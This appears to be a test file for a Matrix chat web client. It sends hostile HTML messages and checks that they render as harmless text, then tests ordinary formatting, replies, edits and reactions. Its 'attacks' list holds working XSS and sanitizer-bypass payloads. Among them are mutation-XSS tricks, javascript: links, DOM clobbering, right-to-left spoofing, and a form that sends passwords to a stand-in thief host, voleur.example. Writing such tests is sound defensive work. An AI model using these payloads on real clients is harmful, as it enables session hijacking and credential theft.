// What messages look like, and what hostile ones can't do. The attacks come from a client that sends what it likes.
import assert from "node:assert/strict";
import test from "node:test";
import { message, openRoom } from "../client.mjs";
import { look } from "../look.mjs";
import { foundTown } from "../town.mjs";

const html = (formatted_body, body = "texte simple") => ({ msgtype: "m.text", body, format: "org.matrix.custom.html", formatted_body });

const nested = (tag, times) => `<${tag}>`.repeat(times) + "profond" + `</${tag}>`.repeat(times);

/** Each would set `window.attacked`, ask another address, or take the page's names, if it could. */
const attacks = [
    "<script>window.attacked = 1</script>",
    '<img src=x onerror="window.attacked = 1">',
    '<img src="https://voleur.example/pixel.png" alt="pixel">',
    '<svg onload="window.attacked = 1"><script>window.attacked = 1</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.attacked=1>',
    '<svg></p><style><a id="</style><img src=1 onerror=window.attacked=1>">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.attacked=1>\">",
    '<template><img src=x onerror="window.attacked=1"></template>',
    "<style>* { display: none !important }</style>",
    '<p style="position:fixed;inset:0;background:red">couvre tout</p>',
    '<form action="https://voleur.example"><input name="password"><button>Envoyer</button></form>',
    '<form><input name="childNodes"><input name="attributes"><input name="localName">piège</form>',
    '<a href="javascript:window.attacked=1">lien</a>',
    '<a href=" java&#10;script:window.attacked=1">lien</a>',
    '<a href="data:text/html,<script>window.attacked=1</script>">lien</a>',
    '<a href="/salon/x" target="_self">relatif</a>',
    '<p id="composer" name="composer">prend un nom</p><a id="root" name="body">et un autre</a>',
    '<iframe src="https://voleur.example"></iframe><object data="https://voleur.example"></object><embed src="https://voleur.example">',
    '<link rel="stylesheet" href="https://voleur.example/x.css"><meta http-equiv="refresh" content="0;url=https://voleur.example"><base href="https://voleur.example/">',
    '<video src="https://voleur.example/x" autoplay onplay="window.attacked=1"></video><audio src=x onerror=window.attacked=1></audio>',
    '<details ontoggle="window.attacked=1" open><summary onclick="window.attacked=1">x</summary>y</details>',
    '<span class="pill self" role="alert" aria-live="assertive" tabindex="0">imite</span>',
    '<code class="language-x btn primary">imite</code>',
    "<x-element is=\"x\" onclick=\"window.attacked=1\">inconnu</x-element>",
    nested("div", 400),
    nested("blockquote", 2000),
    "<b>a</b>".repeat(6000),
    "texte \u202elivesrever\u202c et \u2066isolé",
    '<a href="https://voleur.example/\u202efdp.tcartnoc">https://banque.fr/</a>',
    "<mx-reply><blockquote>ancienne citation</blockquote></mx-reply>la réponse",
];

/** Contents that are no message as the specification has them. */
const malformed = [
    { msgtype: "m.text", body: 12 },
    { msgtype: ["m.text"], body: "liste" },
    { msgtype: "m.text", body: "r", format: "org.matrix.custom.html", formatted_body: { a: 1 } },
    { msgtype: "m.text", body: "r", "m.relates_to": "rien" },
    { msgtype: "m.text", body: "r", "m.relates_to": { "m.in_reply_to": 3 } },
    { msgtype: "m.text", body: "r", "m.relates_to": { "m.in_reply_to": { event_id: ["$x"] } } },
    { msgtype: "m.file", body: { name: 1 }, filename: 3 },
    {},
];

test("hostile messages are text", { timeout: 90_000 }, async (t) => {
    const town = await foundTown(t);
    await town.explainFailure(async () => {
        const [jeanne, paul] = [await town.agent("Jeanne Martin"), await town.agent("Paul Durand")];
        const room = await jeanne.room("Place publique", { preset: "public_chat" });
        await paul.join(room);
        const j = await town.enter(jeanne);
        const asked = [];
        j.page.on("request", (request) => asked.push(request.url()));
        await withoutPolicy(j.page);
        await openRoom(j, "Place publique");
        for (const attack of attacks) await paul.send(room, html(attack));
        for (const content of malformed) await paul.send(room, content);
        await paul.send(room, "La fin.");
        await j.page.setViewportSize({ width: 1280, height: 25_000 }); // what is off the screen is not on the page
        await message(j.page, "La fin.").waitFor();
        await message(j.page, "la réponse").waitFor();
        assert.equal(await message(j.page, "ancienne citation").count(), 0);
        await message(j.page, "livesrever").waitFor();

        assert.equal(await j.page.evaluate(() => window.attacked), undefined);
        assert.deepEqual(asked.filter((url) => !url.startsWith(town.server.origin) && !url.startsWith("blob:")), []);
        assert.deepEqual(await j.page.evaluate(foreign), []);
        assert.equal(await j.page.locator("#composer").evaluate((element) => element.tagName), "TEXTAREA");
        await message(j.page, "https://banque.fr/").getByText("(lien vers voleur.example)").waitFor();
        await j.page.getByRole("textbox", { name: /^Écrire à/ }).fill("toujours là");
    });
});

/** Opens the page again without its content security policy: that is the second wall, and this is about the first. */
async function withoutPolicy(page) {
    await page.route((url) => !url.pathname.startsWith("/assets/") && !url.pathname.startsWith("/_matrix/"), async (route) => {
        const response = await route.fetch();
        const { "content-security-policy": _policy, ...headers } = response.headers();
        await route.fulfill({ response, headers });
    });
    await page.reload();
}

/** In the page: what messages hold that they may not. */
function foreign() {
    const allowed = "del h3 h4 h5 h6 blockquote p a ul ol sup sub li b i u strong em s code hr br div table thead tbody tr th td caption pre span details summary button bdi time".split(" ");
    const attributes = "class href target rel start title dir type tabindex aria-label aria-pressed aria-haspopup aria-expanded aria-busy aria-hidden role datetime data-rac data-react-aria-pressable data-actions open".split(" ");
    return [...document.querySelectorAll("article *")].flatMap((element) => [
        ...(allowed.includes(element.localName) ? [] : [element.localName]),
        ...[...element.attributes].filter(({ name }) => !attributes.includes(name)).map(({ name }) => `${element.localName} ${name}`),
        ...(element.getAttribute("href")?.match(/^(https?|mailto):|^\/salon\//) === null ? [element.outerHTML] : []),
        ...(element.localName === "code" && element.className ? ["code with a class"] : []),
        ...(element.className === "pill self" ? ["somebody else's pill"] : []),
        ...(/[\u202a-\u202e\u2066-\u2069]/.test(element.textContent) ? ["turned text"] : []),
    ]);
}

test("formatted messages, answers, versions, reactions", { timeout: 90_000 }, async (t) => {
    const town = await foundTown(t);
    await town.explainFailure(async () => {
        const [jeanne, paul] = [await town.agent("Jeanne Martin"), await town.agent("Paul Durand")];
        const room = await jeanne.room("Conseil municipal", { preset: "public_chat" });
        await paul.join(room);
        const question = await paul.send(room, "Qui vient samedi ?");
        for (let i = 0; i < 60; i++) await paul.send(room, `Point ${i}`);
        await paul.send(room, html("<h1>Ordre du jour</h1><ol start=\"3\"><li>Budget <b>2027</b></li><li><del>Voirie</del> <em>École</em></li></ol><blockquote>Rappel : 20 h</blockquote>"));
        await paul.send(room, html("<table><thead><tr><th>Poste</th><th>Montant</th></tr></thead><tbody><tr><td>Voirie</td><td>12 000 €</td></tr><tr><td>École</td><td>8 500 €</td></tr></tbody></table>"));
        await paul.send(room, html('<pre><code class="language-sh">ls -l /srv\ndf -h</code></pre><p>Puis <code>df</code>, voir https://service-public.fr</p>'));
        await paul.send(room, html(`Bonjour <a href="https://matrix.to/#/${jeanne.id}">Jeanne Martin</a>, le vote : <span data-mx-spoiler="résultat">adopté</span>`));
        await paul.send(room, html("<details><summary>Le détail</summary>caché d’abord</details>"));
        await paul.send(room, { msgtype: "m.emote", body: "range la salle" });
        await paul.send(room, { msgtype: "m.notice", body: "Sauvegarde terminée." });
        await paul.send(room, "🎉👏");
        const text = await paul.send(room, "Rendez-vous à 18 h");
        await paul.send(room, { msgtype: "m.text", body: "* 19 h", "m.new_content": { msgtype: "m.text", body: "Rendez-vous à 19 h" }, "m.relates_to": { rel_type: "m.replace", event_id: text } });
        await paul.send(room, { "m.relates_to": { rel_type: "m.annotation", event_id: text, key: "👍" } }, "m.reaction");
        await paul.send(room, { msgtype: "m.text", body: "Jeanne ?", "m.mentions": { user_ids: [jeanne.id] } });
        await paul.send(room, "un paragraphe\n\n".repeat(60) + "et la fin");
        await paul.send(room, { msgtype: "m.text", body: "Moi aussi", "m.relates_to": { "m.in_reply_to": { event_id: question } } });

        const j = await town.enter(jeanne);
        await openRoom(j, "Conseil municipal");
        const { page } = j;
        await message(page, "Moi aussi").getByText("Qui vient samedi ?").waitFor(); // asked for: the timeline does not have it yet
        await message(page, "Ordre du jour").getByRole("list").getByText("École").waitFor();
        await page.getByRole("table").getByRole("cell", { name: "12 000 €" }).waitFor();
        await page.getByRole("link", { name: "https://service-public.fr" }).waitFor();
        await message(page, "Bonjour").locator(".pill.self").getByText("@Jeanne Martin").waitFor();
        assert.equal(await page.getByText("adopté").count(), 0);
        await page.getByRole("button", { name: "Texte masqué (résultat) : afficher" }).click();
        await page.getByText("adopté").waitFor();
        await page.getByText("Paul Durand range la salle").waitFor();
        await message(page, "Jeanne ?").getByText("Vous êtes mentionné").waitFor();
        await message(page, "et la fin").getByRole("button", { name: "Lire la suite" }).click();
        await message(page, "et la fin").getByRole("button", { name: "Réduire" }).click();

        await message(page, "Rendez-vous à 19 h").getByRole("button", { name: "👍 1 : Paul Durand" }).click();
        const both = message(page, "Rendez-vous à 19 h").getByRole("button", { name: "👍 2 : Paul Durand, Jeanne Martin", pressed: true });
        await both.waitFor();
        await look(page, "message-formats");
        await both.click();
        await message(page, "Rendez-vous à 19 h").getByRole("button", { name: "👍 1 : Paul Durand", pressed: false, exact: true }).waitFor();

        await message(page, "Rendez-vous à 19 h").getByRole("button", { name: "Modifié" }).click();
        const dialog = page.getByRole("dialog", { name: "Versions du message" });
        await dialog.getByText("Rendez-vous à 18 h").waitFor();
        await dialog.getByText("Rendez-vous à 19 h").waitFor();
        await look(page, "message-versions");
        await page.keyboard.press("Escape");
        await dialog.waitFor({ state: "detached" });
    });
});
